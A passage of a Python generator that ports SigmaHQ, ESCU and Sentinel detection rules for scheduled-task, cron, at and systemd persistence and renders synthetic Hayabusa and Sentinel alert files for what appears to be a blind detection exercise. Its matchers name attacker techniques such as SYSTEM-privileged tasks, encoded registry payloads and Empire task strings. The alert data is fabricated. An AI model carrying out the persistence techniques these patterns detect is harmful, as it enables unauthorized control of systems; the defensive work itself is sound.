    if (sel1 or sel2) and not env_folder_filtered(c, pc):
        out.append("Suspicious Schtasks From Env Var Folder")
    if sch and "/create " in c and any(x in c for x in ('/tn "{', "/tn '{", "/tn {")) and \
            any(x in c for x in ('}"', "}'", "} ")):
        out.append("Suspicious Scheduled Task Name As GUID")
    if "\\schtasks.exe" in img and orig == "schtasks.exe" and "once" in c and "00:00" in c and any(
            x in c for x in ("wscript", "vbscript", "cscript", "wmic ", "wmic.exe", "regsvr32.exe", "powershell",
                             "\\appdata\\")):
        out.append("Uncommon One Time Only Scheduled Task At 00:00")
    when = sch and orig == "schtasks.exe" and any(x in c for x in (" onlogon ", " onstart ", " once ", " onidle "))
    privs = any(x in c for x in ("nt aut", " system", "highest"))
    if when and not privs:
        out.append("Suspicious Schtasks Schedule Types")
    if when and privs:
        out.append("Suspicious Schtasks Schedule Type With High Privileges")
    if sch and "/create " in c and (
            (any(x in c for x in ("/sc minute ", "/ru system ")) and
             any(x in c for x in ("cmd /c", "cmd /k", "cmd /r", "cmd.exe /c ", "cmd.exe /k ", "cmd.exe /r ")))
            or any(x in c for x in UNCOMMON)
            or (any(x in c for x in ANOMALY_DIRS) and any(x in c for x in ("cscript", "curl", "wscript")))):
        out.append("Suspicious Command Patterns In Scheduled Task Creation")
    if sch and orig == "schtasks.exe" and "/create" in c and any(x in c for x in ("frombase64string", "encodedcommand")) \
            and any(x in c for x in ("get-itemproperty", " gp ")) and any(x in c for x in ("hkcu:", "hklm:", "registry::",
                                                                                          "hkey_")):
        out.append("Scheduled Task Executing Encoded Payload from Registry")
    if e["parent_image"].lower().endswith(("\\powershell.exe", "\\pwsh.exe")) and sch and all(
            x in c for x in ("/create", "powershell.exe -noni", "/tn updater /tr")) and any(
            x in c for x in ("/sc onlogon", "/sc daily /st", "/sc onidle", "/sc hourly")):
        out.append("HackTool - Default PowerSploit/Empire Scheduled Task Creation")
    if sch and any(x in c for x in (" /change ", " /create ")) and "/ru " in c and any(x in c for x in ("nt aut", " system ")) \
            and not ("/tn tvinstallrestore" in c and "\\teamviewer_.exe" in c) \
            and not any(x in c for x in ("/create /f /ru system /sc weekly /tn avirasystemspeedupverify /tr ",
                                         ":\\program files (x86)\\avira\\system speedup\\setup\\avira_speedup_setup.exe",
                                         '/verify /verysilent /nostart /nodotnet /norestart" /rl highest')):
        out.append("Schtasks Creation Or Modification With SYSTEM Privileges")
    if (sch or orig == "schtasks.exe") and " /create " in c and any(
            x in c for x in ("powershell", "pwsh", "cmd /c ", "cmd /k ", "cmd /r ", "cmd.exe /c ", "cmd.exe /k ",
                             "cmd.exe /r ")) and any(x in c for x in ("c:\\programdata\\", "%programdata%")):
        out.append("Schtasks From Suspicious Folders")
    if sch and orig == "schtasks.exe" and any(x in c for x in ("/create", "-create")) and any(
            x in c for x in ("/xml", "-xml")) and ".xml" not in c and e["integrity"] != "System" and not (
            e["parent_image"].lower().endswith("\\rundll32.exe") and ":\\windows\\installer\\msi" in pc and ".tmp,zzzzinvokemanagedcustomactionoutofproc" in pc):
        out.append("Suspicious Scheduled Task Creation via Masqueraded XML File")
    return out


def escu_windows(e):
    """ESCU endpoint searches as ported to Sentinel analytics rules over DeviceProcessEvents."""
    if e["kind"] != "wproc":
        return []
    out = []
    n, c = e["name"].lower(), e["cmdline"].lower()
    if n == "schtasks.exe":
        if "/create " in c and "/ru " in c and "system" in c:
            out.append("Windows Schtasks Create Run As System")
        if "/rl " in c and " highest " in c + " ":
            out.append("Windows Scheduled Task with Highest Privileges")
        if "create" in c and " /xml " in c:
            out.append("Windows Scheduled Task Created Via XML")
        if "/create" in c and " /s " in c:
            out.append("Schtasks scheduling job on remote system")
        if " /s " in c and "/run" in c:
            out.append("Scheduled Task Initiation on Remote Endpoint")
        if "/run" in c:
            out.append("Schtasks Run Task On Demand")
        if "delete" in c or "create" in c:
            out.append("Scheduled Task Deleted Or Created via CMD")
        if "/create" in c and any(x in c for x in ("\\users\\public\\", "\\programdata\\", "windows\\temp")):
            out.append("Suspicious Scheduled Task from Public Directory")
        if "shutdown" in c and "/create " in c:
            out.append("Schtasks used for forcing a reboot")
    if n == "at.exe" and "\\\\" in c:
        out.append("Scheduled Task Creation on Remote Endpoint using At")
    pp = e["parent_cmdline"].lower()
    if e["parent_name"].lower() == "svchost.exe" and n in ESCU_LOLBAS and not (
            n == "gpscript.exe" and ("-k gpsvcgroup" in pp or pp.endswith(("-k netsvcs", "-k netsvcs -p", "-s gpsvc")))) \
            and not (n in ("wuauclt.exe", "schtasks.exe") and pp.endswith(("-k netsvcs", "-k netsvcs -p", "-s wuauserv",
                                                                            "-k netsvcs -p -s schedule"))):
        out.append("Svchost LOLBAS Execution Process Spawn")
    return out


SYSTEMD_DIRS = ("/etc/systemd/system", "/lib/systemd/system", "/usr/lib/systemd/system", "/run/systemd/system",
                "~/.config/systemd/", "/home/")
CRON_DIRS = ("/etc/cron.d/", "/etc/cron.daily/", "/etc/cron.hourly/", "/etc/cron.monthly/", "/etc/cron.weekly/",
             "/var/spool/cron/crontabs/")


def linux_rules(e):
    """ESCU Linux searches and SigmaHQ Linux rules as ported to Sentinel (MDE for Linux tables, Syslog)."""
    k, out = e["kind"], []
    if k == "lfile":
        p = e["path"]
        if "/etc/cron" in p or "/var/spool/cron/" in p:
            out.append("Linux Add Files In Known Crontab Directories")
        if p.startswith(SYSTEMD_DIRS) and "/systemd/" in p and p.endswith(".service"):
            out.append("Linux Service File Created In Systemd Directory")
        if p.endswith(("/etc/at.allow", "/etc/at.deny")):
            out.append("Linux At Allow Config File Creation")
        if p.startswith(CRON_DIRS) or any(x in p for x in ("/etc/cron.allow", "/etc/cron.deny", "/etc/crontab")):
            out.append("Persistence Via Cron Files")
        if p.startswith("/etc/sudoers.d/"):
            out.append("Persistence Via Sudoers Files")
    elif k == "lproc":
        c, n = e["cmdline"], e["name"]
        if any(x in c for x in ("/etc/cron", "/var/spool/cron/", "/etc/anacrontab")) and "echo" in c:
            out.append("Linux Possible Append Cronjob Entry on Existing Cronjob File")
        if n == "crontab" and "crontab " in c + " " and " -e" in c:
            out.append("Linux Edit Cron Table Parameter")
        if n == "crontab" and " -l" in c:
            out.append("Linux Adding Crontab Using List Parameter")
        if n in ("nano", "vim.basic") and any(x in c for x in ("nano ", "vi ", "vim ")) and \
                any(x in c for x in ("/etc/cron", "/var/spool/cron/", "/etc/anacrontab")):
            out.append("Linux Possible Cronjob Modification With Editor")
        if n in ("at", "atd") or e["parent_name"] in ("at", "atd"):
            out.append("Linux At Application Execution")
        if n in ("systemctl", "service") and ("systemctl " in c or "service " in c):
            if " start " in c + " " or " enable " in c + " ":
                out.append("Linux Service Started Or Enabled")
            if any(x in c for x in ("restart", "reload", "reenable")):
                out.append("Linux Service Restarted")
        if e["image"].endswith("crontab") and "/tmp/" in c:
            out.append("Scheduled Cron Task/Job - Linux")
        if e["image"].endswith(("/at", "/atd")):
            out.append("Scheduled Task/Job At")
    elif k == "lsys":
        if "REPLACE" in e["message"]:
            out.append("Modifying Crontab")
    return out


def sentinel_rules(e):
    return escu_windows(e) + linux_rules(e)


NOTE_FIT["Scheduled Task Creation on Remote Endpoint using At"] = fit(("admin",), [6])

# the notes each rule carries according to the LoFP research (seed_map.json): the generator checks NOTE_FIT
# against it
SEED_CARRIED = {
    "Scheduled Task Creation Via Schtasks.EXE": [1, 33], "Suspicious Scheduled Task Creation Involving Temp Folder": [1, 33],
    "Suspicious Schtasks From Env Var Folder": [11, 35], "Suspicious Scheduled Task Name As GUID": [31],
    "Uncommon One Time Only Scheduled Task At 00:00": [33], "Suspicious Schtasks Schedule Types": [27],
    "Suspicious Schtasks Schedule Type With High Privileges": [36],
    "Suspicious Command Patterns In Scheduled Task Creation": [34],
    "Scheduled Task Executing Encoded Payload from Registry": [39],
    "HackTool - Default PowerSploit/Empire Scheduled Task Creation": [39], "Interactive AT Job": [40],
    "Scheduled Task Executed Uncommon LOLBIN": [17], "Persistence and Execution at Scale via GPO Scheduled Task": [20],
    "Scheduled Task Deletion": [], "Schtasks Creation Or Modification With SYSTEM Privileges": [],
    "Schtasks From Suspicious Folders": [], "Suspicious Scheduled Task Creation via Masqueraded XML File": [],
    "Suspicious Scheduled Task Creation": [], "Scheduled Task Executed From A Suspicious Location": [],
    "Remote Task Creation via ATSVC Named Pipe": [],
    "Windows Schtasks Create Run As System": [18], "Windows Scheduled Task with Highest Privileges": [15],
    "Windows Scheduled Task Created Via XML": [21], "Schtasks scheduling job on remote system": [42],
    "Scheduled Task Initiation on Remote Endpoint": [7], "Schtasks Run Task On Demand": [10],
    "Scheduled Task Deleted Or Created via CMD": [41], "Suspicious Scheduled Task from Public Directory": [37],
    "Schtasks used for forcing a reboot": [38], "Svchost LOLBAS Execution Process Spawn": [24],
    "Scheduled Task Creation on Remote Endpoint using At": [6],
    "Linux Add Files In Known Crontab Directories": [2], "Linux Possible Append Cronjob Entry on Existing Cronjob File": [14],
    "Linux Edit Cron Table Parameter": [4], "Linux Adding Crontab Using List Parameter": [4],
    "Linux Possible Cronjob Modification With Editor": [5], "Linux At Allow Config File Creation": [3],
    "Linux At Application Execution": [4], "Linux Service File Created In Systemd Directory": [16],
    "Linux Service Started Or Enabled": [5], "Linux Service Restarted": [5],
    "Persistence Via Cron Files": [8], "Persistence Via Sudoers Files": [12], "Scheduled Cron Task/Job - Linux": [22],
    "Scheduled Task/Job At": [22], "Modifying Crontab": [26],
}


def check_rubric():
    for rule, fits in NOTE_FIT.items():
        for cause, notes in fits.items():
            wrong = [x for x in notes if x not in SEED_CARRIED[rule]]
            if wrong:
                raise SystemExit("NOTE_FIT: %r does not carry %r" % (rule, wrong))


def check_against_seed_map():
    """When the LoFP research is at hand, SEED_CARRIED must be exactly what seed_map.json says."""
    path = "/work/shared/research/lofp/seed_map.json"
    if not os.path.exists(path):
        return
    with open(path, encoding="utf-8") as f:
        sentences = json.load(f)["sentences"]
    by_title = {}
    for i, s in enumerate(sentences, 1):
        for r in s["rules_t1053"]:
            by_title.setdefault(r["title"], set()).add(i)
    for rule, notes in SEED_CARRIED.items():
        if set(notes) != by_title.get(rule, set()):
            raise SystemExit("SEED_CARRIED[%r] = %r but seed_map.json says %r" % (rule, notes, sorted(by_title.get(rule, []))))


# ----------------------------------------------------------------------------------------------
# Hayabusa `dfir-timeline -t csv` (standard profile, analyst's zone +10:00) -- FORMATS.md 5.1
# ----------------------------------------------------------------------------------------------

HAYABUSA_FILE = "blind_hayabusa_timeline.csv"
SENTINEL_FILE = "blind_sentinel_alerts.csv"
K8S_FILE = "blind_k8s_audit.jsonl"

SIGMA_META = {  # title -> (upstream SigmaHQ id, level)
    "Scheduled Task Creation Via Schtasks.EXE": ("92626ddd-662c-49e3-ac59-f6535f12d189", "low"),
    "Suspicious Scheduled Task Creation Involving Temp Folder": ("39019a4e-317f-4ce3-ae63-309a8c6b53c5", "high"),
    "Suspicious Schtasks From Env Var Folder": ("81325ce1-be01-4250-944f-b4789644556f", "medium"),
    "Suspicious Scheduled Task Name As GUID": ("ff2fff64-4cd6-4a2b-ba7d-e28a30bbe66b", "medium"),
    "Uncommon One Time Only Scheduled Task At 00:00": ("970823b7-273b-460a-8afc-3a6811998529", "high"),
    "Suspicious Schtasks Schedule Types": ("24c8392b-aa3c-46b7-a545-43f71657fe98", "high"),
    "Suspicious Schtasks Schedule Type With High Privileges": ("7a02e22e-b885-4404-b38b-1ddc7e65258a", "medium"),
    "Suspicious Command Patterns In Scheduled Task Creation": ("f2c64357-b1d2-41b7-849f-34d2682c0fad", "high"),
    "Scheduled Task Executing Encoded Payload from Registry": ("c4eeeeae-89f4-43a7-8b48-8d1bdfa66c78", "high"),
    "HackTool - Default PowerSploit/Empire Scheduled Task Creation": ("56c217c3-2de2-479b-990f-5c109ba8458f", "high"),
    "Interactive AT Job": ("60fc936d-2eb0-4543-8a13-911c750a1dfc", "high"),
    "Scheduled Task Executed Uncommon LOLBIN": ("f0767f15-0fb3-44b9-851e-e8d9a6d0005d", "medium"),
    "Persistence and Execution at Scale via GPO Scheduled Task": ("a8f29a7b-b137-4446-80a0-b804272f3da2", "high"),
    "Scheduled Task Deletion": ("4f86b304-3e02-40e3-aa5d-e88a167c9617", "low"),
    "Schtasks Creation Or Modification With SYSTEM Privileges": ("89ca78fd-b37c-4310-b3d3-81a023f83936", "high"),
    "Schtasks From Suspicious Folders": ("8a8379b8-780b-4dbf-b1e9-31c8d112fefb", "high"),
    "Suspicious Scheduled Task Creation via Masqueraded XML File": ("dd2a821e-3b07-4d3b-a9ac-929fe4c6ca0c", "medium"),
    "Suspicious Scheduled Task Creation": ("3a734d25-df5c-4b99-8034-af1ddb5883a4", "high"),
    "Scheduled Task Executed From A Suspicious Location": ("424273ea-7cf8-43a6-b712-375f925e481f", "medium"),
}
HB_LEVEL = {"informational": "info", "low": "low", "medium": "med", "high": "high", "critical": "crit"}
BAR = " \u00a6 "
IMAGE_INFO = {
    "schtasks.exe": ("Task Scheduler Configuration Tool", "10.0.22621.4391 (WinBuild.160101.0800)"),
    "at.exe": ("Schedule service command line interface", "10.0.22621.1 (WinBuild.160101.0800)"),
}


def hb_time(dt):
    dt = dt.astimezone(TZ)
    return dt.strftime("%Y-%m-%d %H:%M:%S.") + "%03d +10:00" % (dt.microsecond // 1000)


def collapse(s):
    return " ".join(str(s).split())


def logon_id(e):
    return "0x3e7" if e.get("user", e.get("subject", ("", "", "")))[2] == "S-1-5-18" else \
        "0x%x" % (0x200000 + int(det_hex("lid", e["host"], e.get("user", e.get("subject"))[1], n=5), 16))


def pguid(e, which):
    return "%s-%s-%s-%s-%s" % (det_hex("pg", e["host"])[:8], det_hex("pg2", e["seq"], which)[:4],
                               det_hex("pg3", e["host"])[:4], det_hex("pg4", e["seq"], which)[:4],
                               det_hex("pg5", e["seq"], which)[:12])


def hayabusa_fields(e):
    """(Channel, EventID, Details, ExtraFieldInfo) of one event."""
    k, h = e["kind"], e["host"]
    fq = HOSTS[h]["fqdn"].upper().split(".")[0] + "." + DOMAIN
    if k == "wproc":
        desc, ver = IMAGE_INFO.get(e["name"].lower(), ("Windows host process", "10.0.22621.1"))
        hashes = "SHA1=%s,MD5=%s,SHA256=%s,IMPHASH=%s" % (det_hex("sha1", e["image"], n=40).upper(),
                                                          det_hex("md5", e["image"]).upper(),
                                                          det_hex("sha256", e["image"], n=64).upper(),
                                                          det_hex("imp", e["image"]).upper())
        lid = logon_id(e)
        details = BAR.join([
            "Cmdline: %s" % e["cmdline"], "Proc: %s" % e["image"], "User: %s" % sysmon_user(e["user"]),
            "ParentCmdline: %s" % e["parent_cmdline"], "LID: %s" % lid, "LGUID: %s" % pguid(e, "l"),
            "PID: %d" % e["pid"], "PGUID: %s" % pguid(e, "p"), "ParentPID: %d" % e["ppid"],
            "ParentPGUID: %s" % pguid(e, "pp"), "Description: %s" % desc,
            "Product: Microsoft\u00ae Windows\u00ae Operating System", "Company: Microsoft Corporation",
            "Hashes: %s" % hashes])
        utc = e["time"].astimezone(UTC)
        extra = BAR.join([
            "CurrentDirectory: %s" % e["cwd"], "FileVersion: %s" % ver, "IntegrityLevel: %s" % e["integrity"],
            "OriginalFileName: %s" % e["original"], "ParentImage: %s" % e["parent_image"],
            "ParentUser: %s" % sysmon_user(e["user"]), "RuleName: -",
            "TerminalSessionId: %d" % (0 if e["user"][2] == "S-1-5-18" else rng.choice([1, 2, 3])),
            "UtcTime: %s.%03d" % (utc.strftime("%Y-%m-%d %H:%M:%S"), utc.microsecond // 1000)])
        return "Sysmon", 1, details, extra
    if k in ("w4698", "w4699"):
        sub = e["subject"]
        parts = ["Name: %s" % e["task_name"]]
        if k == "w4698":
            parts.append("Content: %s" % e["content"])
        parts += ["User: %s" % sub[1], "LID: %s" % logon_id(e)]
        cp = e["client_pid"]
        extra = BAR.join(["ClientProcessId: %d" % cp,
                          "ClientProcessStartKey: %d" % (0 if cp == 0 else 4222124650660000 + rng.randrange(10 ** 5)),
                          "FQDN: %s" % fq, "ParentProcessId: %d" % (0 if cp == 0 else win_pid()),
                          "RpcCallClientLocality: 0", "SubjectDomainName: %s" % sub[0], "SubjectUserSid: %s" % sub[2]])
        return "Sec", int(k[1:]), BAR.join(parts), extra
    if k == "w5145":
        sub = e["subject"]
        share_path = "\\??\\C:\\Windows\\SYSVOL\\sysvol" if "SYSVOL" in e["share"] else ""
        details = BAR.join(["SrcUser: %s" % sub[1], "ShareName: %s" % e["share"], "SharePath: %s" % share_path,
                            "Path: %s" % e["rel"], "SrcIP: %s" % e["ip"], "LID: %s" % logon_id(e)])
        extra = BAR.join(["AccessList: %s" % e["access"], "AccessMask: 0x12019f", "AccessReason: -",
                          "IpPort: %d" % rng.randrange(49152, 65535), "ObjectType: File",
                          "SubjectDomainName: %s" % sub[0], "SubjectUserSid: %s" % sub[2]])
        return "Sec", 5145, details, extra
    if k == "w129":
        details = BAR.join(["Name: %s" % e["task_name"], "Path: %s" % e["path"], "PID: %d" % e["pid"]])
        return "TaskSch", 129, details, "Priority: 16384"
    raise SystemExit("no Hayabusa rendering for %s" % k)


def hayabusa_rows(hits):
    """hits: [(event, rule)] -> rows in Hayabusa's order (time, then rule title)."""
    record_ids = {}
    rows = []
    events = sorted({id(e): e for e, _ in hits}.values(), key=lambda e: (e["time"], e["seq"]))
    fields = {}
    for e in events:
        ch, eid, details, extra = hayabusa_fields(e)
        key = (e["host"], ch)
        record_ids[key] = record_ids.get(key, 100000 + int(det_hex("rec", *key, n=5), 16) % 900000) + rng.randrange(3, 400)
        fields[id(e)] = (ch, eid, record_ids[key], details, extra)
    for e, rule in sorted(hits, key=lambda x: (x[0]["time"], x[0]["seq"], x[1])):
        ch, eid, rec, details, extra = fields[id(e)]
        fq = e["host"].upper() + "." + DOMAIN
        rows.append(((e, rule), [hb_time(e["time"]), rule, HB_LEVEL[SIGMA_META[rule][1]], fq, ch, eid, rec,
                                 collapse(details), collapse(extra), det_uuid("hayabusa-derived", rule, ch)]))
    return rows


def write_hayabusa(rows):
    buf = io.StringIO()
    w = csv.writer(buf, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\n")
    w.writerow(["Timestamp", "RuleTitle", "Level", "Computer", "Channel", "EventID", "RecordID", "Details",
                "ExtraFieldInfo", "RuleID"])
    for _, r in rows:
        w.writerow(r)
    with open(os.path.join(HERE, HAYABUSA_FILE), "w", encoding="utf-8", newline="") as f:
        f.write(buf.getvalue())


# ----------------------------------------------------------------------------------------------
# Microsoft Sentinel SecurityAlert, Log Analytics "Export to CSV" -- FORMATS.md 6.1
# ----------------------------------------------------------------------------------------------

WORKSPACE_ID = "c7e2a9d4-1b3f-4e58-9a06-2d8f5b7c1e93"
SENTINEL_HEADER = ["TenantId", "TimeGenerated [UTC]", "DisplayName", "AlertName", "AlertSeverity", "Description",
                   "ProviderName", "VendorName", "VendorOriginalId", "SystemAlertId", "ResourceId", "SourceComputerId",
                   "AlertType", "ConfidenceLevel", "ConfidenceScore", "IsIncident", "StartTime [UTC]", "EndTime [UTC]",
                   "ProcessingEndTime [UTC]", "RemediationSteps", "ExtendedProperties", "Entities", "SourceSystem",
                   "WorkspaceSubscriptionId", "WorkspaceResourceGroup", "ExtendedLinks", "ProductName",
                   "ProductComponentName", "AlertLink", "Status", "CompromisedEntity", "Tactics", "Techniques",
                   "SubTechniques", "Type"]

SENTINEL_META = {  # title -> (severity, sub-technique, data source, KQL condition summary)
    "Windows Schtasks Create Run As System": ("Medium", "T1053.005", "DeviceProcessEvents",
                                              'FileName =~ "schtasks.exe" and ProcessCommandLine has_all ("/create ", "/ru ", "system")'),
    "Windows Scheduled Task with Highest Privileges": ("High", "T1053.005", "DeviceProcessEvents",
                                                       'FileName =~ "schtasks.exe" and ProcessCommandLine contains "/rl " and ProcessCommandLine contains " highest "'),
    "Windows Scheduled Task Created Via XML": ("Medium", "T1053.005", "DeviceProcessEvents",
                                               'FileName =~ "schtasks.exe" and ProcessCommandLine contains "create" and ProcessCommandLine contains " /xml "'),
    "Schtasks scheduling job on remote system": ("High", "T1053.005", "DeviceProcessEvents",
                                                 'FileName =~ "schtasks.exe" and ProcessCommandLine contains "/create" and ProcessCommandLine contains " /s "'),
    "Scheduled Task Initiation on Remote Endpoint": ("Medium", "T1053.005", "DeviceProcessEvents",
                                                     'FileName =~ "schtasks.exe" and ProcessCommandLine contains " /s " and ProcessCommandLine contains "/run"'),
    "Schtasks Run Task On Demand": ("Medium", "T1053.005", "DeviceProcessEvents",
                                    'FileName =~ "schtasks.exe" and ProcessCommandLine contains "/run"'),
    "Scheduled Task Deleted Or Created via CMD": ("Medium", "T1053.005", "DeviceProcessEvents",
                                                  'FileName =~ "schtasks.exe" and ProcessCommandLine has_any ("delete", "create")'),
    "Suspicious Scheduled Task from Public Directory": ("Low", "T1053.005", "DeviceProcessEvents",
                                                        'FileName =~ "schtasks.exe" and ProcessCommandLine contains "/create" and ProcessCommandLine has_any (@"\\users\\public\\", @"\\programdata\\", @"windows\\temp")'),
    "Schtasks used for forcing a reboot": ("Medium", "T1053.005", "DeviceProcessEvents",
                                           'FileName =~ "schtasks.exe" and ProcessCommandLine contains "shutdown" and ProcessCommandLine contains "/create "'),
    "Svchost LOLBAS Execution Process Spawn": ("Medium", "T1053.005", "DeviceProcessEvents",
                                               'InitiatingProcessFileName =~ "svchost.exe" and FileName in~ (LolbasNames)'),
    "Scheduled Task Creation on Remote Endpoint using At": ("Medium", "T1053.002", "DeviceProcessEvents",
                                                            'FileName =~ "at.exe" and ProcessCommandLine contains @"\\\\"'),
    "Linux Add Files In Known Crontab Directories": ("Low", "T1053.003", "DeviceFileEvents",
                                                     'FolderPath has_any ("/etc/cron", "/var/spool/cron/")'),
    "Linux Possible Append Cronjob Entry on Existing Cronjob File": ("Low", "T1053.003", "DeviceProcessEvents",
                                                                    'ProcessCommandLine has_any ("/etc/cron", "/var/spool/cron/", "/etc/anacrontab") and ProcessCommandLine contains "echo"'),
    "Linux Edit Cron Table Parameter": ("Informational", "T1053.003", "DeviceProcessEvents",
                                        'FileName == "crontab" and ProcessCommandLine contains " -e"'),
    "Linux Adding Crontab Using List Parameter": ("Informational", "T1053.003", "DeviceProcessEvents",
                                                  'FileName == "crontab" and ProcessCommandLine contains " -l"'),
    "Linux Possible Cronjob Modification With Editor": ("Informational", "T1053.003", "DeviceProcessEvents",
                                                        'FileName in ("nano", "vim.basic") and ProcessCommandLine has_any ("/etc/cron", "/var/spool/cron/", "/etc/anacrontab")'),
    "Linux At Allow Config File Creation": ("Low", "T1053.002", "DeviceFileEvents",
                                            'FolderPath endswith "/etc/at.allow" or FolderPath endswith "/etc/at.deny"'),
    "Linux At Application Execution": ("Informational", "T1053.002", "DeviceProcessEvents",
                                       'FileName in ("at", "atd") or InitiatingProcessFileName in ("at", "atd")'),
    "Linux Service File Created In Systemd Directory": ("High", "T1053.006", "DeviceFileEvents",
                                                        'FolderPath has_any ("/etc/systemd/system", "/lib/systemd/system", "/usr/lib/systemd/system", "/run/systemd/system") and FileName endswith ".service"'),
    "Linux Service Started Or Enabled": ("Medium", "T1053.006", "DeviceProcessEvents",
                                         'FileName in ("systemctl", "service") and ProcessCommandLine has_any (" start ", " enable ")'),
    "Linux Service Restarted": ("Low", "T1053.006", "DeviceProcessEvents",
                                'FileName in ("systemctl", "service") and ProcessCommandLine has_any ("restart", "reload", "reenable")'),
    "Persistence Via Cron Files": ("Medium", "T1053.003", "DeviceFileEvents",
                                   'FolderPath startswith "/etc/cron." or FolderPath startswith "/var/spool/cron/crontabs/" or FolderPath has_any ("/etc/cron.allow", "/etc/cron.deny", "/etc/crontab")'),
    "Persistence Via Sudoers Files": ("Medium", "T1053.003", "DeviceFileEvents", 'FolderPath startswith "/etc/sudoers.d/"'),
    "Scheduled Cron Task/Job - Linux": ("Medium", "T1053.003", "DeviceProcessEvents",
                                        'FolderPath endswith "crontab" and ProcessCommandLine contains "/tmp/"'),
    "Scheduled Task/Job At": ("Low", "T1053.002", "DeviceProcessEvents",
                              'FolderPath endswith "/at" or FolderPath endswith "/atd"'),
    "Modifying Crontab": ("Medium", "T1053.003", "Syslog", 'Facility == "cron" and SyslogMessage has "REPLACE"'),
}
RULE_IDS = {
    "Windows Schtasks Create Run As System": "41a0e58e-884c-11ec-9976-acde48001122",
    "Windows Scheduled Task with Highest Privileges": "2f15e1a4-0fc2-49dd-919e-cbbe60699218",
    "Windows Scheduled Task Created Via XML": "7e03b682-3965-4598-8e91-a60a40a3f7e4",
    "Schtasks scheduling job on remote system": "1297fb80-f42a-4b4a-9c8a-88c066237cf6",
    "Scheduled Task Initiation on Remote Endpoint": "95cf4608-4302-11ec-8194-3e22fbd008af",
    "Schtasks Run Task On Demand": "bb37061e-af1f-11eb-a159-acde48001122",
    "Scheduled Task Deleted Or Created via CMD": "d5af132c-7c17-439c-9d31-13d55340f36c",
    "Suspicious Scheduled Task from Public Directory": "7feb7972-7ac3-11eb-bac8-acde48001122",
    "Schtasks used for forcing a reboot": "1297fb80-f42a-4b4a-9c8a-88c066437cf6",
    "Svchost LOLBAS Execution Process Spawn": "09e5c72a-4c0d-11ec-aa29-3e22fbd008af",
    "Scheduled Task Creation on Remote Endpoint using At": "4be54858-432f-11ec-8209-3e22fbd008af",
    "Linux Add Files In Known Crontab Directories": "023f3452-5f27-11ec-bf00-acde48001122",
    "Linux Possible Append Cronjob Entry on Existing Cronjob File": "b5b91200-5f27-11ec-bb4e-acde48001122",
    "Linux Edit Cron Table Parameter": "0d370304-5f26-11ec-a4bb-acde48001122",
    "Linux Adding Crontab Using List Parameter": "52f6d751-1fd4-4c74-a4c9-777ecfeb5c58",
    "Linux Possible Cronjob Modification With Editor": "dcc89bde-5f24-11ec-87ca-acde48001122",
    "Linux At Allow Config File Creation": "977b3082-5f3d-11ec-b954-acde48001122",
    "Linux At Application Execution": "bf0a378e-5f3c-11ec-a6de-acde48001122",
    "Linux Service File Created In Systemd Directory": "c7495048-61b6-11ec-9a37-acde48001122",
    "Linux Service Started Or Enabled": "e0428212-61b7-11ec-88a3-acde48001122",
    "Linux Service Restarted": "084275ba-61b8-11ec-8d64-acde48001122",
    "Persistence Via Cron Files": "6c4e2f43-d94d-4ead-b64d-97e53fa2bd05",
    "Persistence Via Sudoers Files": "ddb26b76-4447-4807-871f-1b035b2bfa5d",
    "Scheduled Cron Task/Job - Linux": "6b14bac8-3e3a-4324-8109-42f0546a347f",
    "Scheduled Task/Job At": "d2d642d7-b393-43fe-bae4-e81ed5915c4b",
    "Modifying Crontab": "af202fd3-7bff-4212-a25a-fb34606cfcbe",
}
TACTICS = {"T1053.005": "Persistence,PrivilegeEscalation,Execution", "T1053.002": "Persistence,PrivilegeEscalation,Execution",
           "T1053.003": "Persistence,PrivilegeEscalation,Execution", "T1053.006": "Persistence,PrivilegeEscalation,Execution"}


SIGMA_PORTED = {"Persistence Via Cron Files", "Persistence Via Sudoers Files", "Scheduled Cron Task/Job - Linux",
                "Scheduled Task/Job At", "Modifying Crontab"}


def analytic_rule_id(rule):
    return det_uuid("sentinel-analytic", rule)


def la_time(dt):
    """Log Analytics portal (en-US) datetime: 5/4/2027, 1:42:03.118 AM."""
    dt = dt.astimezone(UTC)
    h12 = dt.hour % 12 or 12
    return "%d/%d/%d, %d:%02d:%02d.%03d %s" % (dt.month, dt.day, dt.year, h12, dt.minute, dt.second,
                                               dt.microsecond // 1000, "AM" if dt.hour < 12 else "PM")


def split_path(p, sep):
    i = p.rfind(sep)
    return p[:i], p[i + 1:]


def sentinel_entities(e):
    win = e["host"] in HOSTS and HOSTS[e["host"]]["family"] == "windows"
    ents = []
    host = {"$id": "2", "HostName": e["host"].upper() if win else e["host"], "DnsDomain": DOMAIN,
            "OSFamily": "Windows" if win else "Linux", "Type": "host"}
    ents.append(host)
    if win:
        u = e["user"]
        acc = {"$id": "3", "Name": u[1].lower() if u[2] == "S-1-5-18" else u[1], "NTDomain": u[0], "Sid": u[2],
               "Type": "account"}
    else:
        acc = {"$id": "3", "Name": e["user"], "Type": "account"}
    ents.append(acc)
    sep = "\\" if win else "/"
    d, n = split_path(e.get("image", "/usr/bin/crontab"), sep)
    proc = {"$id": "4", "ProcessId": str(e["pid"])}
    if e["kind"] != "lsys":
        proc["CommandLine"] = e["cmdline"]
    proc["CreationTimeUtc"] = e["time"].astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
    proc["ImageFile"] = {"$id": "5", "Directory": d, "Name": n, "Type": "file"}
    if e["kind"] != "lsys":
        pd, pn = split_path(e["parent_image"], sep)
        proc["ParentProcess"] = {"$id": "6", "ProcessId": str(e["ppid"]), "CommandLine": e["parent_cmdline"],
                                 "ImageFile": {"$id": "7", "Directory": pd, "Name": pn, "Type": "file"},
                                 "Host": {"$ref": "2"}, "Type": "process"}
    proc["Account"] = {"$ref": "3"}
    proc["Host"] = {"$ref": "2"}
    proc["Type"] = "process"
    ents.append(proc)
    if e["kind"] == "lfile":
        d, n = split_path(e["path"], "/")
        ents.append({"$id": "8", "Directory": d, "Name": n, "Type": "file"})
    return ents


def sentinel_row(e, rule):
    sev, sub, source, cond = SENTINEL_META[rule]
    rid = analytic_rule_id(rule)
    gen = e["time"] + timedelta(minutes=rng.randrange(4, 16), seconds=rng.randrange(60), milliseconds=rng.randrange(1000))
    q_end = gen.replace(second=0, microsecond=0)
    origin = ("SigmaHQ %s" if rule in SIGMA_PORTED else "ESCU %s") % RULE_IDS[rule]
    query = "// %s (ported from %s)\n%s\n| where %s" % (rule, origin, source, cond)
    ext = {"Query Period": "00:15:00", "Trigger Operator": "GreaterThan", "Trigger Threshold": "0",
           "Correlation Id": det_uuid("corr", e["seq"], rule), "Search Query Results Overall Count": "1",
           "Data Sources": json.dumps([source]), "Query": query,
